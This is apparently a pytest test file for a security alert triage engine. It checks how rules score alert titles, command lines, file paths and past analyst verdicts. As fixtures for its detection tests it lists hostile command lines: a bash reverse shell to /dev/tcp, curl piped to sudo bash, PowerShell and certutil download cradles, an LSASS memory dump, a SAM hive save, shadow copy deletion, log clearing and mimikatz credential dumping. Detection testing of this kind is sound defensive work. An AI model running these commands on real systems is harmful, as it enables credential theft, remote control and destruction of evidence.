"""Each theme finds what it is for, tells who wrote it, and leaves honest things alone."""

from __future__ import annotations

import base64
import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agents.rules import _reading, behaviour, command, encoded, exploit, files, identity, impact, phishing, threat
from aurora.kernel.evidence import Provenance
from aurora.kernel.models import Observable, ObservableType, Severity
from aurora.kernel.models.verdict import VerdictLabel
from tests.unit.agents.making import RULES, SENSOR, WRITABLE, found, make_alert, see

MALICIOUS, SUSPICIOUS = VerdictLabel.MALICIOUS, VerdictLabel.SUSPICIOUS
REVIEW, BENIGN = VerdictLabel.NEEDS_REVIEW, VerdictLabel.BENIGN
EICAR = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"


def weights(view) -> dict[str, float]:
    """Return the strongest weight of each rule that contributes, the prior left out."""
    found: dict[str, float] = {}
    for each in RULES:
        for contribution in each.function(view):
            found[each.id] = max(found.get(each.id, 0.0), contribution.weight, key=abs)
    found.pop("severity.product", None)
    return found


def encoded_command(script: str) -> str:
    return f"powershell.exe -NoProfile -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"


@pytest.mark.parametrize(
    ("title", "severity", "label"),
    [
        ("SURICATA TCPv4 invalid checksum", Severity.LOW, BENIGN),
        ("SURICATA STREAM excessive retransmissions", Severity.HIGH, BENIGN),
        (
            "SURICATA TLS invalid heartbeat encountered, possible exploit attempt (heartbleed)",
            Severity.HIGH,
            SUSPICIOUS,
        ),
        ("ET INFO Observed DNS Query to .biz TLD", Severity.LOW, BENIGN),
        ("ET INFO Session Traversal Utilities for NAT", Severity.HIGH, REVIEW),
        ("ET MALWARE Win32/Emotet CnC Activity (POST)", Severity.HIGH, MALICIOUS),
        ("ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)", Severity.HIGH, MALICIOUS),
        ("ET WEB_SERVER Possible SQL Injection Attempt", Severity.MEDIUM, SUSPICIOUS),
        ("Suspected Golden Ticket usage", Severity.MEDIUM, MALICIOUS),
        ("Impossible travel to atypical locations", Severity.MEDIUM, SUSPICIOUS),
        ("Read sensitive file untrusted", Severity.MEDIUM, SUSPICIOUS),
        ("Potential Credential Access via LSASS Memory Dump", Severity.HIGH, MALICIOUS),
        ("Backdoor:EC2/C&CActivity.B", Severity.HIGH, MALICIOUS),
        ("CryptoCurrency:EC2/BitcoinTool.B!DNS", Severity.HIGH, MALICIOUS),
        ("PAM: Login session opened.", Severity.LOW, BENIGN),
        ("User logged in", Severity.INFO, BENIGN),
        ("Something of medium severity", Severity.MEDIUM, REVIEW),
        ("Something of high severity", Severity.HIGH, SUSPICIOUS),
    ],
)
def test_a_title_of_a_product_gets_the_label_of_a_senior_analyst(judge, title, severity, label):
    decision, _ = judge(see(make_alert(title=title, severity=severity)))

    assert decision.label is label, decision


@pytest.mark.parametrize(
    ("line", "rule", "least"),
    [
        (r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full", "command.attack", 11),
        (r"reg save HKLM\SAM C:\temp\sam", "command.attack", 10),
        ("vssadmin.exe Delete Shadows /All /Quiet", "command.attack", 11),
        ("wevtutil cl Security", "command.attack", 9),
        ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "command.attack", 9),
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "command.attack", 11),
        ("curl -s http://198.51.100.7/x.sh | sudo bash", "command.living_off_the_land", 8),
        ("IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')", "command.living_off_the_land", 9),
        ("certutil -urlcache -split -f http://a.example/p.exe p.exe", "command.living_off_the_land", 8),
        ("mshta http://a.example/x.hta", "command.living_off_the_land", 9),
        ('net group "Domain Admins" /domain', "command.discovery", 6),
        ("renamed.exe privilege::debug sekurlsa::logonpasswords", "command.tool", 12),
        ("c^m^d^ /c w^h^o^a^m^i", "command.disguised", 6),
        ("echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash", "command.disguised", 9),
    ],
)
def test_a_command_of_an_attack_is_found(line, rule, least):
    found = weights(see(make_alert(("process.command_line", line))))

    assert found.get(rule, 0) >= least, found


@pytest.mark.parametrize(
    "line",
    [
        "git commit -m 'fix: delete shadow of the button'",
        r"C:\Windows\System32\svchost.exe -k netsvcs -p",
        "curl -fsS https://example.org/health",
        "tar czf /backup/etc.tgz /etc",
        "reg query HKLM\\Software\\Acme",
        "python -m pytest tests/unit",
        "net use Z: \\\\files\\share",
        "sc query wuauserv",
        "certutil -hashfile setup.exe SHA256",
        "rundll32.exe shell32.dll,Control_RunDLL",
        "powershell Get-Process | Sort-Object CPU",
    ],
)
def test_an_honest_command_weighs_nothing(line):
    assert weights(see(make_alert(("process.command_line", line)))) == {}


def test_an_encoded_command_is_decoded_and_what_is_inside_weighs_more():
    plain = encoded_command("Get-Date; Write-Output 'maintenance window'")
    cradle = encoded_command("IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')")
    twice = encoded_command(cradle)

    views = [see(make_alert(("process.command_line", line))) for line in (plain, cradle, twice)]
    found = [weights(view)["command.encoded"] for view in views]

    assert found == [5.0, 11.0, 11.0]


def test_what_is_no_text_is_not_taken_for_an_encoded_command():
    noise = base64.b64encode(bytes(range(256))).decode()

    assert encoded.decoded(noise) is None
    assert weights(see(make_alert(("process.command_line", f"powershell -enc {noise}")))) == {}


def test_a_tool_named_by_the_product_weighs_more_than_one_that_anybody_named():
    told = weights(see(make_alert(title="Mimikatz credential theft tool")))
    named = weights(see(make_alert(("file.name", "mimikatz.exe"))))
    custom = make_alert(("rule.category", "mimikatz", WRITABLE))

    assert told["detection.threat"] == 14.0
    assert named["command.tool"] == pytest.approx(8.4)
    assert weights(see(custom))["detection.threat"] == 7.0


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        (r"C:\Users\ada\Downloads\invoice.pdf.exe", "file.name"),
        (r"C:\Windows\Temp\a.exe", "file.place"),
        (r"C:\Users\ada\AppData\Roaming\svchost.exe", "file.name"),
        ("/dev/shm/.x", "file.place"),
        (r"C:\share\readme_to_decrypt.txt", "file.name"),
    ],
)
def test_a_name_or_place_that_misleads_is_found(path, rule):
    assert rule in weights(see(make_alert(("file.path", path))))


@pytest.mark.parametrize(
    "path",
    [
        r"C:\Windows\System32\svchost.exe",
        r"\Device\HarddiskVolume3\Windows\explorer.exe",
        r"C:\Program Files\Acme\acme.exe",
        "/usr/bin/bash",
        r"C:\Windows\WinSxS\amd64_x\conhost.exe",
        "svchost.exe",
        "report.v2.pdf",
    ],
)
def test_an_honest_path_weighs_nothing(path):
    assert weights(see(make_alert(("process.executable", path)))) == {}


def test_only_parents_and_children_that_the_record_ties_together_are_compared():
    pair = make_alert(("process.parent.executable", r"C:\Office\WINWORD.EXE"), ("process.executable", "powershell.exe"))
    apart = make_alert(
        ("process.parent.executable", "winword.exe"),
        ("process.executable", "splwow64.exe"),
        ("process.executable", "powershell.exe"),
    )

    assert weights(see(pair))["ancestry.parent"] == 9.0
    assert "ancestry.parent" not in weights(see(apart))


def test_a_scan_from_outside_lowers_and_one_inside_raises():
    alert = make_alert(title="ET SCAN Potential SSH Scan")

    outside, inside, claimed = (
        weights(see(alert, found("network", provenance, direction=way))).get("noise.scan")
        for way, provenance in (
            ("inbound", Provenance.AGENT_DERIVED),
            ("internal", Provenance.AGENT_DERIVED),
            ("inbound", WRITABLE),
        )
    )

    assert (outside, inside, claimed) == (-6.0, 5.0, None)


def test_a_listed_value_lowers_only_where_the_adversary_did_not_write_it():
    alert = make_alert()

    seen, written = (
        weights(see(alert, found("warning_list", provenance, category="benign_infrastructure", value="x")))
        for provenance in (Provenance.AGENT_DERIVED, WRITABLE)
    )

    assert seen == {"reputation.lowers": -2.0}
    assert written == {}


def test_a_sinkhole_raises_whoever_named_it():
    hit = found("warning_list", WRITABLE, category="sinkhole", value="evil.example", list="sinkholes")

    view = see(make_alert(), hit)

    assert weights(view) == {"reputation.raises": 8.0}


async def test_the_test_file_closes_and_another_file_beside_it_keeps_the_alert_open(enriched, judge):
    test = Observable(type=ObservableType.HASH_SHA256, value=EICAR)
    other = Observable(type=ObservableType.HASH_SHA256, value="ab" * 32)
    title = "Virus:DOS/EICAR_Test_File malware was detected"

    alone, beside = [
        judge(await enriched(make_alert(title=title, severity=Severity.HIGH, observables=found)))[0]
        for found in ((test,), (test, other))
    ]

    assert alone.label is BENIGN
    assert beside.label is REVIEW


def test_an_analyst_decides_and_the_rules_own_past_hardly_counts(judge):
    alert = make_alert(title="Ransomware behavior detected in the file system", severity=Severity.HIGH)
    before, _ = judge(see(alert))

    rules, analyst, stale = (
        judge(see(alert, found("past_verdict", label="benign", decided_by=who, age_days=age)))[0]
        for who, age in (("rules", "1"), ("analyst", "1"), ("analyst", "400"))
    )

    assert (before.label, rules.label) == (MALICIOUS, MALICIOUS)
    assert before.score == rules.score
    assert analyst.label is BENIGN
    assert stale.label is MALICIOUS


def alike(label: str, similarity: str, excuses: str, *, decided_by: str = "analyst"):
    told = {"label": label, "similarity": similarity, "excuses": excuses, "age_days": "1", "decided_by": decided_by}
    return found("similar_case", **told)


def test_what_was_excused_lowers_less_and_closes_nothing_where_another_command_was_run():
    past = found("past_verdict", label="benign", decided_by="analyst", age_days="1")

    same, other, unknown = (
        [
            each
            for rule in RULES
            if rule.id == "memory.analyst"
            for each in rule.function(see(make_alert(), past, *more))
        ]
        for more in ((alike("benign", "1.00", "1.00"),), (alike("benign", "0.80", "0.00"),), ())
    )

    assert [(each.weight, each.closes) for each in (*same, *other, *unknown)] == [
        (-35.0, True),
        (-7.0, False),
        (-35.0, True),
    ]


@pytest.mark.parametrize(
    ("cases", "weight"),
    [
        ([("benign", "0.90", "0.80")], -11.2),
        ([("benign", "0.98", "0.30")], None),
        ([("benign", "0.98", "")], None),
        ([("benign", "0.98", "0.98"), ("malicious", "0.60", "0.10")], None),
        ([("malicious", "0.90", "0.00")], 12.6),
    ],
)
def test_a_similar_alert_excuses_only_what_is_alike_beyond_the_words_of_outsiders(cases, weight):
    shown = weights(see(make_alert(), *(alike(*each) for each in cases)))

    assert shown.get("memory.similar") == weight


def test_no_number_of_machines_that_called_similar_alerts_benign_lowers_anything():
    machines = [alike("benign", "1.00", "1.00", decided_by=who) for who in ("rules", "model") * 3]

    assert "memory.similar" not in weights(see(make_alert(), *machines))


def test_only_the_youngest_decision_of_an_analyst_counts(judge):
    view = see(
        make_alert(),
        found("past_verdict", label="benign", decided_by="analyst", age_days="30"),
        found("past_verdict", label="malicious", decided_by="analyst", age_days="2"),
    )

    assert judge(view)[0].label is MALICIOUS


@pytest.mark.parametrize(
    ("word", "provenance", "weight"),
    [
        ("FalsePositive", Provenance.HUMAN, -25.0),
        ("False Positive", SENSOR, None),
        ("FalsePositive", WRITABLE, None),
        ("TruePositive", Provenance.HUMAN, 12.0),
        ("InformationalExpectedActivity", Provenance.HUMAN, -2.0),
    ],
)
def test_only_people_can_lower_by_classification(word, provenance, weight):
    found = weights(see(make_alert(("event.classification", word, provenance))))

    assert found.get("state.classified") == weight


def test_a_blocked_attack_stays_an_attack(judge):
    alerts = (
        make_alert(("event.action", action), title="ET MALWARE Emotet", severity=Severity.HIGH)
        for action in ("allowed", "blocked")
    )

    allowed, blocked = (judge(see(alert))[0] for alert in alerts)

    assert allowed.score - blocked.score == 2.0
    assert blocked.label is MALICIOUS


def test_independent_products_corroborate_and_repetition_of_one_does_not():
    alert = make_alert()

    many, two, other = (
        weights(
            see(
                alert,
                found(
                    "related",
                    alerts="40",
                    sources=sources,
                    severe="0",
                    techniques="0",
                    shared_type="host",
                    shared_value="web01",
                ),
            )
        )
        for sources in ("test", "test,suricata", "suricata")
    )

    assert many == {}
    assert two == other == {"corroboration.related": 3.0}


def test_a_technique_with_several_tactics_counts_as_the_mildest():
    view = see(
        make_alert(severity=Severity.HIGH),
        found("technique", id="T1078", name="Valid Accounts", tactics="credential-access,initial-access"),
    )

    assert weights(view) == {"detection.technique": 4.0}


MODULES = (behaviour, command, encoded, exploit, files, identity, impact, phishing, threat)
TABLES = [each for module in MODULES for each in vars(module).values() if isinstance(each, _reading.Table)]
LOOKAROUND = re.compile(r"\(\?[=!<]")  # Hypothesis cannot draw from these
SIGNS = {sign.what: sign for each in TABLES for sign in each.signs if not LOOKAROUND.search(sign.pattern.pattern)}


@pytest.mark.parametrize("what", sorted(SIGNS))
@settings(max_examples=8, derandomize=True, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_every_text_that_a_sign_matches_holds_one_of_its_needles(what, data):
    sign = SIGNS[what]

    text = data.draw(st.from_regex(sign.pattern)).lower()

    if sign.pattern.search(text):
        assert any(needle in text for needle in sign.needles), text


@pytest.mark.parametrize(
    "unit", ["'+'", "powershell -enc ", "iex ", "../", "a^", "; wget ", "[char](65)+", " " * 9, "\\temp", "union "]
)
def test_hostile_repetition_does_not_slow_the_rules_down(unit):
    text = (unit * 8192)[:8192]
    view = see(make_alert(("process.command_line", text), ("url.full", text), ("file.path", text)))

    started = time.process_time()
    weights(view)

    assert time.process_time() - started < 1.0
